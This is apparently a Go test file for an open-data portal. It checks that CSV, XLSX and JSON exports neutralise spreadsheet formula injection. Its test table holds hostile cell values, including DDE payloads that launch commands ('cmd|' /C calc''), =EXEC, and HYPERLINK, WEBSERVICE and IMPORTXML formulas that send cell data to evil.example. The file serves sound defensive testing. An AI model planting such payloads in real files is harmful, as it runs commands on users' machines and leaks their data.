package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/openshafaf/shafaf/catalog"

	"github.com/goccy/go-json"
	"github.com/xuri/excelize/v2"
)

// hostileFormulas are cells that a spreadsheet program would run, with what is
// before them in the CSV that we write.
var hostileFormulas = [][3]string{
	{"equals", "=1+1", "'"},
	{"plus", "+1+1+cmd", "'"},
	{"minus", "-2+3+cmd|' /C calc'!A0", "'"},
	{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'"},
	{"command", "=cmd|'/C calc'!'A1'", "'"},
	{"link", `=HYPERLINK("https://evil.example/?"&A1,"x")`, "'"},
	{"service on the web", `=WEBSERVICE("https://evil.example/"&A1)`, "'"},
	{"import of a page", `=IMPORTXML("https://evil.example/","//a")`, "'"},
	{"macro of old", `=EXEC("calc")`, "'"},
	{"array", "{=1+1}", ""},
	{"quote before it", `"=1+1"`, ""},
	{"blank before it", " =1+1", ""},
	{"wide equals", "＝1+1", "'"},
	{"wide plus", "＋1+1+cmd", "'"},
	{"wide minus", "－1+1+cmd", "'"},
	{"wide at", "＠SUM(1)", "'"},
	{"line end before it", "a\n=1+1", ""},
	{"separator in it", `a";=1+1;"b`, ""},
	{"telephone number", "+98211234567", ""},
	{"negative number", "-12.5", ""},
}

// hostileCells publishes a table of formulas and reads every file that is made of
// it as a program would.
func hostileCells(t *testing.T, s *siege) {
	var content strings.Builder
	w := csv.NewWriter(&content)
	_ = w.Write([]string{"text", "=2+2", "n"})
	for i, f := range hostileFormulas {
		_ = w.Write([]string{f[1], "x", strconv.Itoa(i)})
	}
	w.Flush()
	base := s.published(t, "Formulas", "formulas.csv", content.String())
	rows, _ := csv.NewReader(bytes.NewReader(s.send(t, shot{path: base + ".csv"}).body)).ReadAll()
	bare, _ := csv.NewReader(bytes.NewReader(s.send(t, shot{path: base + ".csv?escape=0"}).body)).ReadAll()
	raw := s.send(t, shot{path: base + ".xlsx"}).body
	book, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	var list []map[string]any
	if err := json.Unmarshal(s.send(t, shot{path: base + ".json"}).body, &list); err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostileFormulas)+1 || len(bare) != len(rows) || len(list) != len(hostileFormulas) {
		t.Fatalf("%d rows of CSV, %d without marks, %d of JSON", len(rows), len(bare), len(list))
	}
	sheet := book.GetSheetName(0)
	for i, f := range hostileFormulas {
		s.try(t, f[0], func(t *testing.T) {
			want := strings.TrimSpace(f[1])
			if got := rows[i+1][0]; strings.TrimSpace(got) != f[2]+want {
				t.Errorf("CSV has %q, want %q", got, f[2]+want)
			}
			if got := bare[i+1][0]; strings.TrimSpace(got) != want {
				t.Errorf("CSV without marks has %q", got)
			}
			cell, _ := excelize.CoordinatesToCellName(1, i+2)
			formula, err := book.GetCellFormula(sheet, cell)
			value, _ := book.GetCellValue(sheet, cell)
			if kind, _ := book.GetCellType(sheet, cell); err != nil || formula != "" || kind == excelize.CellTypeFormula || strings.TrimSpace(value) != want {
				t.Errorf("the workbook has %q, formula %q, %v", value, formula, err)
			}
			found := false
			for _, v := range list[i] {
				text, is := v.(string)
				found = found || is && strings.TrimSpace(text) == want
			}
			if !found {
				t.Errorf("JSON has %v", list[i])
			}
		})
	}
	s.try(t, "header", func(t *testing.T) {
		if rows[0][1] != "'=2+2" {
			t.Errorf("the header of CSV is %q", rows[0])
		}
		if formula, _ := book.GetCellFormula(sheet, "B1"); formula != "" {
			t.Errorf("the header of the workbook is a formula")
		}
	})
	s.try(t, "workbook", func(t *testing.T) {
		if found := active(t, raw); found != nil {
			t.Errorf("the workbook has %q", found)
		}
		var made bytes.Buffer // the check finds what it looks for
		own := excelize.NewFile()
		_ = own.SetCellFormula("Sheet1", "A1", "=1+1")
		_ = own.SetCellHyperLink("Sheet1", "A2", "https://evil.example/", "External")
		if err := own.Write(&made); err != nil || !slices.Equal(active(t, made.Bytes()), []string{"f", "hyperlink"}) {
			t.Errorf("of a workbook with a formula and a link: %v %v", active(t, made.Bytes()), err)
		}
	})
}

// active are the elements of a workbook that do something.
func active(t *testing.T, book []byte) (found []string) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if !strings.HasSuffix(f.Name, ".xml") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(r)
		for {
			token, err := dec.Token()
			if err == io.EOF { //nolint:errorlint // as Token gives it
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			if e, is := token.(xml.StartElement); is && slices.Contains([]string{"f", "hyperlink", "oleObject", "externalReference", "ddeLink", "control"}, e.Name.Local) {
				found = append(found, e.Name.Local)
			}
		}
	}
	slices.Sort(found)
	return found
}

// published is a published dataset with one file, and returns the address of its
// table without the ending.
func (s *siege) published(t *testing.T, title, name, content string) string {
	t.Helper()
	g := s.given(t, name, content)
	if len(g.Imported.Tables) == 0 {
		t.Fatalf("%s is no table: %s", name, g.Imported.Fault)
	}
	d := catalog.DeskDataset{}
	err := s.portal.store.Write(t.Context(), func(tx *catalog.Tx) (err error) {
		if d, err = tx.CreateDataset(&catalog.Shell, catalog.Dataset{Agency: s.agency[0].ID, Title: catalog.Text{"en": title}}, ""); err != nil {
			return err
		}
		if d, _, err = tx.AddFile(&catalog.Shell, d.ID, d.Revision, g); err == nil {
			d, err = tx.Publish(&catalog.Shell, d.ID, d.Revision, time.Time{})
		}
		return err
	})
	if err == nil {
		d, err = s.portal.store.DeskDataset(t.Context(), &catalog.Shell, d.ID)
	}
	if err != nil {
		t.Fatal(err)
	}
	if a := s.send(t, shot{path: "/en/datasets/" + d.Slug}); a.status != http.StatusOK {
		t.Fatalf("%s is not published: %d", title, a.status)
	}
	return "/datasets/" + d.Slug + "/resources/" + d.Resources[0].ID
}
